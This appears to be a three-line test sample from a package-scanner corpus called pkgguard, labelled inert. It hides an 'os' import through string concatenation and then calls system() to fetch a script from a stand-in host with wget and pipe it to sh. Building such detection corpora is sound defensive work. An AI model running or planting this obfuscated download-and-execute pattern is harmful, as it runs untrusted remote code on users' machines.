# pkgguard corpus 021 (indirection), modelled on [obfuscation]; inert, never run.
m = __import__("o" + "s")
m.system("wget -qO- https://cdn.example/x | sh")
